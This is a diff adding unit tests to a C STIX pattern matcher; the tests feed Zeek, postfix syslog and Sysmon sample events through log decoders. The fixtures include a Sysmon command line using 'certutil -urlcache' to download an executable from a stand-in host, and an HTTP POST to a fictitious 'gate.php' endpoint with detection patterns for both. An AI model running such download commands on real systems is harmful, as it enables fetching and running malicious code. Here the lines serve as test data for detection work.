@@ -16,6 +16,7 @@
 #include <errno.h>
 #include <sys/stat.h>
 
+#include "decode/decode.h"
 #include "intel/stix-pattern-impl.h"
 #include "intel/stix-pattern.h"
 #include "util/arena.h"
@@ -562,6 +563,9 @@ static void test_absent(void **state)
     assert_no_match("[x-custom:thing = 'x']", ev);
     assert_no_match("[x-custom:thing != 'x']", ev);
     assert_no_match("[ipv4-addr:value[0] = '192.0.2.7']", ev); /* not a list: nothing there */
+    struct event *h = EV("file.hash.md5", "79054025255fb1a26e4bc422aef54eb4");
+    assert_match("[file:hashes.md5 = '79054025255fb1a26e4bc422aef54eb4']", h);
+    assert_no_match("[file:'hashes.md5' = '79054025255fb1a26e4bc422aef54eb4']", h);
     /* EXISTS */
     assert_match("[EXISTS network-traffic:dst_port]", ev);
     assert_no_match("[EXISTS file:name]", ev);
@@ -884,6 +888,155 @@ static void test_map_windows(void **state)
     assert_match("[directory:path = 'C:\\\\Users\\\\bob']", fe);
     struct event *net = EV("@product", "windows", "Protocol", "tcp", "source.ip", "10.0.0.5");
     assert_match("[network-traffic:protocols[*] = 'tcp']", net);
+}
+
+/* ---- events from kenchi's own decoders ----------------------------------- */
+
+/* Decode TSV text line by line with the Zeek decoder; returns the data
+ * events (up to max). */
+static size_t zeek_tsv(const char *text, struct event **out, size_t max)
+{
+    const struct decoder *z = decoder_find("zeek");
+    assert_non_null(z);
+    struct decode_ctx ctx;
+    decode_ctx_init(&ctx, "smtp.log", 0, 0);
+    size_t n = 0;
+    for (const char *p = text; *p && n < max;) {
+        const char *nl = strchr(p, '\n');
+        size_t len = nl ? (size_t)(nl - p) : strlen(p);
+        struct event *ev = arena_alloc(&A, sizeof(*ev));
+        event_init(ev, &A);
+        ev->file = "smtp.log";
+        ev->raw = str_make(arena_strndup(&A, p, len), len);
+        if (z->decode_line(&ctx, ev) == 0)
+            out[n++] = ev;
+        p += len + (nl ? 1 : 0);
+    }
+    decode_ctx_fini(&ctx);
+    return n;
+}
+
+/* Decode one JSON object with the decoder that claims it. */
+static struct event *json_event(const char *text)
+{
+    struct event *ev = arena_alloc(&A, sizeof(*ev));
+    event_init(ev, &A);
+    ev->raw = str_make(arena_strndup(&A, text, strlen(text)), strlen(text));
+    assert_int_equal(json_flatten(ev, ev->raw.p, ev->raw.n), 0);
+    const struct decoder *d = decoder_for_json(ev);
+    struct decode_ctx ctx;
+    decode_ctx_init(&ctx, "x.json", 0, 0);
+    assert_int_equal(d->decode_json(&ctx, ev), 0);
+    decode_ctx_fini(&ctx);
+    return ev;
+}
+
+/* One syslog line through the syslog decoder and its applications. */
+static struct event *syslog_event(const char *line)
+{
+    const struct decoder *d = decoder_find("syslog");
+    assert_non_null(d);
+    struct event *ev = arena_alloc(&A, sizeof(*ev));
+    event_init(ev, &A);
+    ev->raw = str_make(arena_strndup(&A, line, strlen(line)), strlen(line));
+    struct decode_ctx ctx;
+    decode_ctx_init(&ctx, "mail.log", 1709596800LL * NS_PER_SEC, 2024);
+    assert_int_equal(d->decode_line(&ctx, ev), 0);
+    decode_ctx_fini(&ctx);
+    return ev;
+}
+
+static void test_real_decoders(void **state)
+{
+    (void)state;
+    static const char smtp[] =
+        "#separator \\x09\n"
+        "#set_separator\t,\n"
+        "#empty_field\t(empty)\n"
+        "#unset_field\t-\n"
+        "#path\tsmtp\n"
+        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\thelo\t"
+        "mailfrom\trcptto\tdate\tfrom\tto\tcc\treply_to\tmsg_id\tin_reply_to\tsubject\t"
+        "x_originating_ip\tuser_agent\n"
+        "#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\t"
+        "set[string]\tstring\tstring\tset[string]\tset[string]\tstring\tstring\tstring\t"
+        "string\taddr\tstring\n"
+        "1709539473.402977\tC7mJq2pWz9Lk4Rt8Ue\t192.0.2.33\t46212\t198.51.100.25\t25\t1\t"
+        "mail.partner.example.net\torders@partner.example.net\tinfo@example.org,sales@example.org\t"
+        "Mon, 4 Mar 2024 09:04:30 +0100\tPartner Orders <orders@partner.example.net>\t"
+        "info@example.org\tboss@example.org\t-\t<8044b1fb@partner.example.net>\t-\t"
+        "Order 2024-0311 confirmation\t192.0.2.140\tMicrosoft Outlook 16.0\n";
+    struct event *evs[4];
+    assert_int_equal(zeek_tsv(smtp, evs, 4), 1);
+    struct event *ev = evs[0];
+    assert_match("[email-message:from_ref.value = 'orders@partner.example.net']", ev);
+    assert_match("[email-message:sender_ref.value = 'orders@partner.example.net']", ev);
+    assert_match("[email-message:to_refs[*].value = 'info@example.org']", ev);
+    assert_match("[email-message:cc_refs[*].value = 'boss@example.org']", ev);
+    assert_match("[email-addr:value = 'sales@example.org']", ev); /* the second RCPT */
+    assert_match("[domain-name:value = 'partner.example.net']", ev);
+    assert_match("[email-message:subject LIKE 'Order %']", ev);
+    assert_match("[email-message:message_id = '<8044b1fb@partner.example.net>']", ev);
+    assert_match("[email-message:additional_header_fields.'X-Originating-IP' ISSUBSET "
+                 "'192.0.2.0/24']",
+                 ev);
+    assert_match("[network-traffic:dst_port = 25 AND network-traffic:src_ref.value = "
+                 "'192.0.2.33']",
+                 ev);
+    assert_match("[email-message:additional_header_fields.'User-Agent' = 'Microsoft Outlook 16.0']",
+                 ev);
+
+    struct event *http = json_event(
+        "{\"_path\":\"http\",\"ts\":1709539473.4,\"uid\":\"CX\",\"id.orig_h\":\"10.0.0.5\","
+        "\"id.orig_p\":50000,\"id.resp_h\":\"203.0.113.80\",\"id.resp_p\":80,\"method\":\"POST\","
+        "\"host\":\"upd.evil.example\",\"uri\":\"/gate.php\",\"user_agent\":\"Mozilla/4.0 "
+        "(compatible)\",\"status_code\":200}");
+    assert_match("[url:value = 'http://upd.evil.example/gate.php']", http);
+    assert_match("[domain-name:value = 'upd.evil.example' AND "
+                 "network-traffic:extensions.'http-request-ext'.request_method = 'POST']",
+                 http);
+    assert_match("[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' "
+                 "LIKE 'Mozilla/4.0%']",
+                 http);
+    assert_match("[network-traffic:dst_ref.value = '203.0.113.80' AND network-traffic:dst_port "
+                 "= 80]",
+                 http);
+
+    struct event *conn = json_event(
+        "{\"_path\":\"conn\",\"ts\":1709539473.4,\"uid\":\"CY\",\"id.orig_h\":\"10.0.0.5\","
+        "\"id.orig_p\":50000,\"id.resp_h\":\"203.0.113.80\",\"id.resp_p\":443,\"proto\":\"tcp\","
+        "\"service\":\"ssl\",\"orig_bytes\":1200,\"resp_bytes\":48213,\"conn_state\":\"SF\"}");
+    assert_match("[network-traffic:protocols[*] = 'ssl' AND network-traffic:dst_byte_count > "
+                 "40000]",
+                 conn);
+
+    struct event *pf = syslog_event("Mar  4 00:03:22 mx1 postfix/smtpd[1388]: connect from "
+                                    "mail.bad.example[203.0.113.202]");
+    assert_match("[domain-name:value = 'mail.bad.example' AND ipv4-addr:value = "
+                 "'203.0.113.202']",
+                 pf);
+    assert_match("[process:name = 'postfix/smtpd' AND process:pid = 1388]", pf);
+    struct event *pf2 =
+        syslog_event("Mar  4 00:03:25 mx1 postfix/smtpd[1388]: 3F1A22C0456: client=unknown[203.0."
+                     "113.202], sasl_method=PLAIN, sasl_username=alice@example.org");
+    assert_match("[user-account:user_id = 'alice@example.org']", pf2);
+    assert_no_match("[domain-name:value = 'unknown']", pf2);
+
+    struct event *win = json_event(
+        "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":"
+        "\"ws1\",\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":"
+        "\"certutil -urlcache -f http://x/y.exe\",\"ProcessId\":4321,\"ParentImage\":"
+        "\"C:\\\\Windows\\\\explorer.exe\",\"User\":\"CORP\\\\bob\",\"Hashes\":"
+        "\"MD5=79054025255FB1A26E4BC422AEF54EB4,SHA256="
+        "AEC070645FE53EE3B3763059376134F058CC337247C978ADD178B6CCDFB0019F\"}");
+    assert_match("[process:name = 'certutil.exe' AND process:command_line LIKE '%urlcache%']", win);
+    assert_match("[process:image_ref.hashes.MD5 = '79054025255fb1a26e4bc422aef54eb4']", win);
+    assert_match("[file:hashes.'SHA-256' = "
+                 "'aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f']",
+                 win);
+    assert_match("[process:parent_ref.name = 'explorer.exe' AND process:pid = 4321 AND "
+                 "user-account:user_id = 'bob']",
+                 win);
 }
 
 /* ---- simple values ----------------------------------------------------------------- */
@@ -1642,6 +1795,7 @@ int main(void)
         cmocka_unit_test(test_map_zeek),
         cmocka_unit_test(test_map_mail_logs),
         cmocka_unit_test(test_map_windows),
+        cmocka_unit_test(test_real_decoders),
         cmocka_unit_test(test_simple_values),
         cmocka_unit_test(test_match_event_qualifiers),
         cmocka_unit_test(test_stream_single),
